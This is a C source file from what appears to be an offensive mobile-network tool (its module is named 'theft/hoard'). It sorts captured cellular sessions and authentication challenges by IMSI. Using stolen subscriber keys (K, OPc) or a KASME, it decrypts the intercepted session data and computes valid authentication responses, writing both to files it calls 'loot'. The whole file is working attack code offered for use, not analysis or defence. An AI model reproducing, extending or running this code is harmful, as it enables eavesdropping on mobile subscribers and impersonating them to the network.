#include "theft/hoard.h"

#include <errno.h>
#include <stdlib.h>
#include <string.h>

/* Sessions mostly come in order already; then nothing needs sorting. Merging
 * runs keeps that cheap, and needs no global for the records. */
static const uint8_t *imsi_at(const struct heard_file *file, size_t size, uint32_t place)
{
	return file->at + size * place;
}

static void merge(uint32_t *out, const uint32_t *a, size_t a_count, const uint32_t *b, size_t b_count,
		  const struct heard_file *file, size_t size)
{
	while (a_count && b_count) {
		if (memcmp(imsi_at(file, size, *a), imsi_at(file, size, *b), HEARD_IMSI) <= 0) {
			*out++ = *a++;
			a_count--;
		} else {
			*out++ = *b++;
			b_count--;
		}
	}
	memcpy(out, a, a_count * sizeof(*a));
	memcpy(out + a_count, b, b_count * sizeof(*b));
}

static uint32_t *sorted(const struct heard_file *file, size_t size)
{
	uint32_t *from = malloc((file->count + 1) * sizeof(*from)),
		 *to = malloc((file->count + 1) * sizeof(*to)), *swap;

	if (!from || !to || file->count > UINT32_MAX) {
		free(from);
		free(to);
		return NULL;
	}
	for (size_t i = 0; i < file->count; i++)
		from[i] = (uint32_t)i;
	for (size_t width = 1; width < file->count; width *= 2) {
		for (size_t at = 0; at < file->count; at += 2 * width) {
			size_t left = file->count - at, a = left < width ? left : width;
			size_t b = left - a < width ? left - a : width;

			merge(to + at, from + at, a, from + at + a, b, file, size);
		}
		swap = from;
		from = to;
		to = swap;
	}
	free(to);
	return from;
}

static FILE *loot(const char *out, const char *name, struct fault *fault)
{
	char path[512];
	FILE *file;

	(void)snprintf(path, sizeof(path), "%.400s/%s", out, name);
	if (!(file = fopen(path, "we")))
		fault_set(fault, FAULT_SYSTEM, NULL, "cannot write %s: %s", path, strerror(errno));
	return file;
}

int hoard_begin(struct hoard *hoard, const char *captured, const char *out, struct fault *fault)
{
	*hoard = (struct hoard){.error = 0};
	if (heard_map(&hoard->sessions, captured, "heard.bin", sizeof(struct heard), fault) < 0 ||
	    heard_map(&hoard->challenges, captured, "challenges.bin", sizeof(struct heard_challenge), fault) <
		    0)
		return -1;
	hoard->by_imsi = sorted(&hoard->sessions, sizeof(struct heard));
	hoard->challenge_by_imsi = sorted(&hoard->challenges, sizeof(struct heard_challenge));
	hoard->done = calloc(hoard->sessions.count + 1, 1);
	if (!hoard->by_imsi || !hoard->challenge_by_imsi || !hoard->done)
		return fault_set(fault, FAULT_SYSTEM, NULL, "no memory for what was heard");
	if (!(hoard->opened = loot(out, "opened.bin", fault)) ||
	    !(hoard->answers = loot(out, "answers.bin", fault)))
		return -1;
	return 0;
}

int hoard_end(struct hoard *hoard, struct fault *fault)
{
	if (hoard->opened && fclose(hoard->opened) != 0)
		hoard->error = -1;
	if (hoard->answers && fclose(hoard->answers) != 0)
		hoard->error = -1;
	free(hoard->by_imsi);
	free(hoard->challenge_by_imsi);
	free(hoard->done);
	heard_unmap(&hoard->sessions);
	heard_unmap(&hoard->challenges);
	return hoard->error ? fault_set(fault, FAULT_SYSTEM, "make room on the disk", "cannot write the loot")
			    : 0;
}

static size_t find(const struct heard_file *file, size_t size, const uint32_t *order,
		   const uint8_t imsi[static HEARD_IMSI])
{
	size_t low = 0, high = file->count;

	while (low < high) {
		size_t middle = low + (high - low) / 2;

		if (memcmp(imsi_at(file, size, order[middle]), imsi, HEARD_IMSI) < 0)
			low = middle + 1;
		else
			high = middle;
	}
	return low;
}

size_t hoard_find(const struct hoard *hoard, const uint8_t imsi[static HEARD_IMSI])
{
	return find(&hoard->sessions, sizeof(struct heard), hoard->by_imsi, imsi);
}

const struct heard *hoard_session(const struct hoard *hoard, size_t place_in_order)
{
	return (const struct heard *)(const void *)imsi_at(&hoard->sessions, sizeof(struct heard),
							   hoard->by_imsi[place_in_order]);
}

static void note_session(struct hoard *hoard, uint32_t place, const uint8_t data[static HEARD_DATA])
{
	struct opened opened;

	heard_set_number(opened.session, place);
	memcpy(opened.data, data, HEARD_DATA);
	if (fwrite(&opened, sizeof(opened), 1, hoard->opened) != 1)
		hoard->error = -1;
	hoard->done[place] = 1;
	hoard->opened_count++;
}

static void answer(struct hoard *hoard, const uint8_t imsi[static HEARD_IMSI], const uint8_t k[static 16],
		   const uint8_t opc[static 16])
{
	size_t size = sizeof(struct heard_challenge);
	size_t at = find(&hoard->challenges, size, hoard->challenge_by_imsi, imsi);

	for (; at < hoard->challenges.count; at++) {
		uint32_t place = hoard->challenge_by_imsi[at];
		const struct heard_challenge *c = (const void *)imsi_at(&hoard->challenges, size, place);
		struct answered answered;

		if (memcmp(c->imsi, imsi, HEARD_IMSI) != 0)
			return;
		if (!heard_fits(answered.res, c->rand, c->autn, k, opc))
			continue;
		heard_set_number(answered.challenge, place);
		if (fwrite(&answered, sizeof(answered), 1, hoard->answers) != 1)
			hoard->error = -1;
		hoard->answered_count++;
	}
}

bool hoard_key(struct hoard *hoard, const uint8_t imsi[static HEARD_IMSI], const uint8_t k[static 16],
	       const uint8_t opc[static 16])
{
	uint8_t data[HEARD_DATA];
	bool any = false;

	hoard->tried++;
	for (size_t at = hoard_find(hoard, imsi); at < hoard->sessions.count; at++) {
		const struct heard *session = hoard_session(hoard, at);

		if (memcmp(session->imsi, imsi, HEARD_IMSI) != 0)
			break;
		if (hoard->done[hoard->by_imsi[at]] || !heard_open(data, session, k, opc))
			continue;
		note_session(hoard, hoard->by_imsi[at], data);
		any = true;
	}
	if (any)
		answer(hoard, imsi, k, opc);
	return any;
}

bool hoard_kasme(struct hoard *hoard, const uint8_t imsi[static HEARD_IMSI], const uint8_t rand[static 16],
		 const uint8_t kasme[static 32])
{
	uint8_t data[HEARD_DATA];

	hoard->tried++;
	for (size_t at = hoard_find(hoard, imsi); at < hoard->sessions.count; at++) {
		const struct heard *session = hoard_session(hoard, at);

		if (memcmp(session->imsi, imsi, HEARD_IMSI) != 0)
			break;
		if (memcmp(session->rand, rand, 16) != 0 || hoard->done[hoard->by_imsi[at]] ||
		    !heard_open_kasme(data, session, kasme))
			continue;
		note_session(hoard, hoard->by_imsi[at], data);
		return true;
	}
	return false;
}
